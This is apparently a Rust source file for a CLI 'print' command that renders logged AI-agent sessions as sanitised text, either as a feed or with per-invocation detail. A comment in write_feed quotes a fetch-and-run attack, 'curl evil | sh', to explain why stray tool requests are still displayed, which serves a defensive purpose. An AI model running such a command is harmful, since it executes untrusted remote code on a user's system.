//! `rawpv print INPUT [--detail] [--color auto|always|never] [--width N]`: the feed as text on
//! stdout, or with `--detail` every invocation's detail as the viewer's detail pane shows it with
//! every block expanded: the same builder (`crate::detail::build`), so the same lines.
//!
//! Colour: `always` writes our styles as SGR ([`crate::render::sgr::lines_to_ansi`]); `auto` does
//! so only when stdout is a terminal and `NO_COLOR` is unset; otherwise plain text. Either way the
//! untrusted content has been neutralised by the renderers: the only escape sequences written
//! are our own SGR. Lines are wrapped at `--width` (default: the terminal's, else 100 columns).

use std::io::{IsTerminal, Write};

use ratatui::text::Line;

use crate::cli::{ColorChoice, InputArgs};
use crate::protocol::FrameType;
use crate::render::{lines_to_string, sgr};
use crate::session::{Item, MessageKind, Session};
use crate::theme::Theme;

/// Default width when stdout is not a terminal and no `--width` is given.
const DEFAULT_WIDTH: u16 = 100;

/// Runs the command; returns the exit code.
pub async fn run(
    input: &InputArgs,
    detail: bool,
    color: ColorChoice,
    width: Option<u16>,
    config: Option<&std::path::Path>,
) -> i32 {
    // Render limits and the syntect theme come from the config (`--detail` only uses them).
    let limits = if detail {
        match crate::config::load(config) {
            Ok(loaded) => {
                for w in &loaded.warnings {
                    eprintln!("rawpv: warning: {w}");
                }
                loaded.config.apply_render_settings();
                loaded.config.limits.limits()
            }
            Err(e) => {
                eprintln!("rawpv: {e}");
                return 2;
            }
        }
    } else {
        crate::render::Limits::default()
    };
    let session = match super::load_session(input).await {
        Ok((s, _)) => s,
        Err(e) => {
            eprintln!("rawpv: {e}");
            return 2;
        }
    };
    let r = if detail {
        let is_tty = std::io::stdout().is_terminal();
        let use_colour = match color {
            ColorChoice::Always => true,
            ColorChoice::Never => false,
            ColorChoice::Auto => {
                is_tty && std::env::var_os("NO_COLOR").is_none_or(|v| v.is_empty())
            }
        };
        let width = width
            .or_else(|| {
                is_tty
                    .then(|| crossterm::terminal::size().ok().map(|(w, _)| w))
                    .flatten()
            })
            .unwrap_or(DEFAULT_WIDTH)
            .max(20);
        super::with_stdout(|out| write_detail_with(out, &session, width, use_colour, limits))
    } else {
        super::with_stdout(|out| write_feed(out, &session))
    };
    super::exit_code(r, 0)
}

/// Writes one line per feed item.
pub fn write_feed(out: &mut dyn Write, session: &Session) -> std::io::Result<()> {
    for (idx, item) in session.items.iter().enumerate() {
        match item {
            Item::Invocation(i) => {
                let inv = &session.invocations[*i];
                // Names and ids are untrusted text too (issue 9).
                // What the call did (the feed's summary), then its id for grep and `--detail`.
                let summary = crate::render::ansi::visible_plain(&inv.summary);
                let gap = if summary.is_empty() { "" } else { "  " };
                writeln!(
                    out,
                    "{:<10} {:<9} {summary}{gap}[{}]",
                    crate::render::text::visible(&inv.tool_name),
                    crate::render::text::visible(inv.status.label()),
                    crate::render::text::visible(&inv.invocation_id)
                )?;
            }
            // An agent turn with only whitespace text is a quiet row in the viewer too.
            Item::Message(_) if crate::session::query::is_quiet(session, idx) => {}
            Item::Message(m) => {
                let kind = match m.kind {
                    MessageKind::Prompt => "prompt",
                    MessageKind::AgentText => "agent",
                    MessageKind::Thinking => "thinking",
                };
                let first = crate::session::summary::first_line(&m.text);
                writeln!(
                    out,
                    "{kind:<10} {}",
                    crate::render::ansi::visible_plain(&first)
                )?;
            }
            Item::Event(f) => match &f.frame_type {
                FrameType::SessionError | FrameType::AgentError => {
                    let p = f.payload_json();
                    let field = |k: &str| p.get(k).and_then(serde_json::Value::as_str);
                    let msg = field("message").or_else(|| field("error")).unwrap_or("");
                    let first = msg.lines().next().unwrap_or("");
                    let code = field("error_code").map_or_else(String::new, |c| format!("{c}: "));
                    writeln!(
                        out,
                        "{:<10} {}",
                        crate::render::text::visible(f.frame_type.as_str()),
                        crate::render::text::visible(&format!("{code}{first}"))
                    )?;
                }
                // A request that is no call of its own (its `invocation_id` was taken or is
                // missing) still says what it asked: a second `curl evil | sh` under a reused id
                // appeared as a bare `tool.invoke.request` (second attack of issue 14).
                FrameType::ToolInvokeRequest => {
                    let p = f.payload_json();
                    let tool = p.get("tool_name").and_then(serde_json::Value::as_str);
                    let id = p.get("invocation_id").and_then(serde_json::Value::as_str);
                    let input = p.get("input").cloned().unwrap_or_default();
                    let summary =
                        crate::session::summary::input_summary(tool.unwrap_or(""), &input);
                    writeln!(
                        out,
                        "{:<10} {} {}  [{}] (not a call of its own: see check)",
                        crate::render::text::visible(f.frame_type.as_str()),
                        crate::render::text::visible(tool.unwrap_or("?")),
                        crate::render::ansi::visible_plain(&summary),
                        crate::render::text::visible(id.unwrap_or("no invocation_id"))
                    )?;
                }
                _ => writeln!(
                    out,
                    "{:<10}",
                    crate::render::text::visible(f.frame_type.as_str())
                )?,
            },
        }
    }
    Ok(())
}

/// Writes every invocation's detail (header, input, output or stream), wrapped at `width`, as
/// SGR-styled text when `colour`, else plain.
pub fn write_detail(
    out: &mut dyn Write,
    session: &Session,
    width: u16,
    colour: bool,
) -> std::io::Result<()> {
    write_detail_with(
        out,
        session,
        width,
        colour,
        crate::render::Limits::default(),
    )
}

/// [`write_detail`] with render limits (config `limits.*`).
pub fn write_detail_with(
    out: &mut dyn Write,
    session: &Session,
    width: u16,
    colour: bool,
    limits: crate::render::Limits,
) -> std::io::Result<()> {
    let theme = if colour { Theme::dark() } else { Theme::mono() };
    for inv in &session.invocations {
        let wrapped = detail_lines(session, inv.item, width, &theme, limits);
        let text = if colour {
            sgr::lines_to_ansi(&wrapped)
        } else {
            lines_to_string(&wrapped)
        };
        out.write_all(text.as_bytes())?;
        out.write_all(b"\n")?;
    }
    Ok(())
}

/// The detail of item `item` as the viewer's detail pane shows it `width` columns wide with
/// every block expanded (the same builder, [`crate::detail::build`]), wrapped at `width`.
/// Highlighted when `theme` has colour; a deferred input or output is read back from the file.
pub fn detail_lines(
    session: &Session,
    item: usize,
    width: u16,
    theme: &Theme,
    limits: crate::render::Limits,
) -> Vec<Line<'static>> {
    let Some(src) = crate::detail::DetailSource::from_session(session, item) else {
        return Vec::new();
    };
    let opts = crate::detail::DetailOpts {
        width,
        expanded: true,
        side_by_side: false,
        wrap: true,
        limits,
    };
    let lines = if theme.colour {
        crate::detail::build::build_detail_lines(&src, theme, opts)
    } else {
        crate::detail::build::build_plain_detail_lines(&src, theme, opts)
    };
    lines
        .iter()
        .flat_map(|l| crate::render::wrap::wrap_line_styled(l, usize::from(width)))
        .collect()
}
